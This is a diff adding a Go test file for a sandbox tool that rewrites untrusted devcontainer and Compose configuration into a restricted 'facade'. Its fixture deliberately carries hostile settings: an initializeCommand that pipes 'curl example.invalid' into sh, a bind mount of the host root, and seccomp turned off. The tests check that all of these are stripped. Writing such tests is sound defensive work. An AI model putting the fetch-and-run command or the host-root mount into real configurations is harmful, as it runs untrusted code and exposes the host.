@@ -1,0 +1,225 @@
+package facade
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/compose-spec/compose-go/v2/loader"
+	"github.com/compose-spec/compose-go/v2/types"
+
+	"github.com/cocoonbox/cocoonbox/guest/branchbox"
+	"github.com/cocoonbox/cocoonbox/guest/branchbox/devcontainer"
+)
+
+const (
+	imageApp = "registry.example/team/app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+	imageDB  = "sha256:abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789"
+)
+
+// The repository: a build, a writable workspace bind, a data bind, a named
+// volume, seccomp off, and environment values of the devcontainers/cli
+// #904 class ($$ escapes, quotes, a newline).
+const repoCompose = `services:
+  app:
+    build:
+      context: .
+      dockerfile: Dockerfile
+    volumes:
+      - ..:/workspace
+      - cache:/cache
+    security_opt: ["seccomp=unconfined"]
+    environment:
+      DOLLAR: "$${x}"
+      PRICE: "costs $$5"
+      QUOTES: "it's \"quoted\" and ` + "`ticked`" + `"
+      NEWLINE: "line one\nline two"
+      ANGLE: "<a&b>"
+  database:
+    image: postgres:16
+    pull_policy: always
+    volumes:
+      - ./data:/var/lib/postgresql/data
+      - dbdata:/srv
+volumes:
+  cache: {}
+  dbdata: {}
+`
+
+const repoConfig = `{
+  // the repository's own configuration
+  "dockerComposeFile": "compose.yaml",
+  "service": "app",
+  "remoteUser": "dev",
+  "build": {"dockerfile": "Dockerfile"},
+  "features": {"ghcr.io/devcontainers/features/node:1": {}},
+  "mounts": ["source=/,target=/host,type=bind"],
+  "initializeCommand": "curl example.invalid | sh",
+  "containerEnv": {"KEEP": "it's $x <b>"},
+  "updateRemoteUserUID": true
+}`
+
+func assignment() *branchbox.Assignment {
+	uid := uint32(1000)
+	return &branchbox.Assignment{
+		Version: "3", RunID: "run-id",
+		ServiceImages: map[string]string{"app": imageApp, "database": imageDB},
+		Leases: []branchbox.Lease{
+			{LeaseID: "shared_exchange", Scope: branchbox.ScopeSharedDirectory, Materializations: []branchbox.Materialization{
+				{SourcePath: "/run/branchbox/managed/run-id/shared/exchange", TargetPath: "/run/branchbox/leases/shared/exchange"}}},
+			{LeaseID: "status_endpoint", Scope: branchbox.ScopeToolEndpoint, Materializations: []branchbox.Materialization{
+				{SourcePath: "/run/branchbox/managed/run-id/tool-endpoints/status", TargetPath: "/run/branchbox/leases/tool-endpoints/status"}}},
+			{LeaseID: "delivery_endpoint", Scope: branchbox.ScopeToolEndpoint, Materializations: []branchbox.Materialization{
+				{SourcePath: "/run/branchbox/managed/run-id/tool-endpoints/delivery.sock", TargetPath: "/run/branchbox/leases/tool-endpoints/delivery.sock"}}},
+			{LeaseID: "delivery_requests", Scope: branchbox.ScopeToolRequest, ConsumerUID: &uid, EndpointLeaseID: "delivery_endpoint",
+				RequestSpoolTarget: "/run/branchbox/leases/tool-requests/delivery", Materializations: []branchbox.Materialization{
+					{SourcePath: "/run/branchbox/managed/run-id/materializations/delivery-capability", TargetPath: "/run/branchbox/leases/tool-requests/delivery/.capability"}}},
+		},
+	}
+}
+
+// generated writes the repository, loads it, generates and writes the
+// facade, and returns the repository and the facade directory.
+func generated(t *testing.T) (string, *Facade) {
+	t.Helper()
+	repo := t.TempDir()
+	for name, body := range map[string]string{".devcontainer/devcontainer.json": repoConfig, ".devcontainer/compose.yaml": repoCompose} {
+		if err := os.MkdirAll(filepath.Join(repo, filepath.Dir(name)), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(repo, name), []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	in, err := devcontainer.Load(context.Background(), repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := Generate(assignment(), in, filepath.Join(t.TempDir(), "state", "devcontainer"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := Write(f); err != nil {
+		t.Fatal(err)
+	}
+	return repo, f
+}
+
+// load reads a Compose file the way docker compose does: interpolation on
+// (over an empty environment), "$$" unescaped.
+func load(t *testing.T, file string) *types.Project {
+	t.Helper()
+	p, err := loader.LoadWithContext(context.Background(), types.ConfigDetails{
+		WorkingDir: filepath.Dir(file), ConfigFiles: []types.ConfigFile{{Filename: file}}, Environment: types.Mapping{},
+	}, func(o *loader.Options) { o.SetProjectName("from-directory", false) })
+	if err != nil {
+		t.Fatalf("compose-go loading %s: %v", file, err)
+	}
+	return p
+}
+
+// TestFacadeRoundTripsValues: every environment value reaches the facade
+// byte for byte, as docker compose reads both files (the $${x} and '
+// class of devcontainers/cli #904, quotes, newlines).
+func TestFacadeRoundTripsValues(t *testing.T) {
+	repo, f := generated(t)
+	want := load(t, filepath.Join(repo, ".devcontainer", "compose.yaml")).Services["app"].Environment
+	got := load(t, filepath.Join(f.Dir, ComposeFile)).Services["app"].Environment
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("environment changed through the facade:\n got %v\nwant %v", printable(got), printable(want))
+	}
+	if v := got["DOLLAR"]; v == nil || *v != "${x}" {
+		t.Fatalf("DOLLAR is %v, want ${x}", printable(got))
+	}
+	var cfg map[string]any
+	if err := json.Unmarshal(f.Config, &cfg); err != nil {
+		t.Fatal(err)
+	}
+	if v := cfg["containerEnv"].(map[string]any)["KEEP"]; v != "it's $x <b>" || !bytes.Contains(f.Config, []byte(`"it's $x <b>"`)) {
+		t.Fatalf("containerEnv.KEEP is %q, written as %s", v, f.Config)
+	}
+}
+
+func printable(m types.MappingWithEquals) map[string]string {
+	out := map[string]string{}
+	for k, v := range m {
+		if v != nil {
+			out[k] = *v
+		}
+	}
+	return out
+}
+
+// TestFacadeClosesImagePathsAndMountsOnlySignedPairs (Contract: Preloaded
+// service images; Security contract, "The generated configuration mounts
+// only manifest-declared source/target pairs", "A linked tool endpoint is
+// never mounted", one named volume per tool-request lease).
+func TestFacadeClosesImagePathsAndMountsOnlySignedPairs(t *testing.T) {
+	_, f := generated(t)
+	p := load(t, filepath.Join(f.Dir, ComposeFile))
+	if p.Name != "branchbox-run-id" {
+		t.Errorf("project name %q", p.Name)
+	}
+	for name, img := range map[string]string{"app": imageApp, "database": imageDB} {
+		s := p.Services[name]
+		if s.Image != img || s.Build != nil || s.PullPolicy != types.PullPolicyNever {
+			t.Errorf("%s: image %q build %v pull_policy %q", name, s.Image, s.Build, s.PullPolicy)
+		}
+	}
+	app := p.Services["app"]
+	if len(app.SecurityOpt) != 0 {
+		t.Errorf("app keeps security_opt %v", app.SecurityOpt)
+	}
+	type mount struct {
+		typ, src, dst string
+		ro            bool
+	}
+	var got []mount
+	for _, v := range app.Volumes {
+		got = append(got, mount{v.Type, v.Source, v.Target, v.ReadOnly})
+		if v.Type == types.VolumeTypeBind && (v.Bind == nil || v.Bind.CreateHostPath) {
+			t.Errorf("bind %s may create its source", v.Source)
+		}
+	}
+	want := []mount{
+		{"bind", "/run/branchbox/managed/run-id/shared/exchange", "/run/branchbox/leases/shared/exchange", true},
+		{"bind", "/run/branchbox/managed/run-id/tool-endpoints/status", "/run/branchbox/leases/tool-endpoints/status", true},
+		{"volume", "branchbox-spool-delivery_requests", "/run/branchbox/leases/tool-requests/delivery", false},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("app mounts\n got %v\nwant %v", got, want)
+	}
+	if v := p.Volumes["branchbox-spool-delivery_requests"]; v.Name != "branchbox-run-id-delivery_requests" {
+		t.Errorf("spool volume %+v", v)
+	}
+	for _, v := range p.Services["database"].Volumes {
+		if v.Type == types.VolumeTypeBind {
+			t.Errorf("database keeps bind %s", v.Source)
+		}
+	}
+	if len(p.Services["database"].Volumes) != 1 {
+		t.Errorf("database volumes %v, want its named volume only", p.Services["database"].Volumes)
+	}
+	var cfg map[string]any
+	if err := json.Unmarshal(f.Config, &cfg); err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range configDropped {
+		if _, ok := cfg[k]; ok {
+			t.Errorf("config keeps %s", k)
+		}
+	}
+	if cfg["updateRemoteUserUID"] != false || !reflect.DeepEqual(cfg["dockerComposeFile"], []any{filepath.Join(f.Dir, ComposeFile)}) {
+		t.Errorf("config: updateRemoteUserUID %v dockerComposeFile %v", cfg["updateRemoteUserUID"], cfg["dockerComposeFile"])
+	}
+	for _, name := range []string{ComposeFile, ConfigFile} {
+		st, err := os.Lstat(filepath.Join(f.Dir, name))
+		if err != nil || st.Mode() != 0o600 {
+			t.Errorf("%s: %v mode %v, want an owner-only regular file", name, err, st.Mode())
+		}
+	}
+}
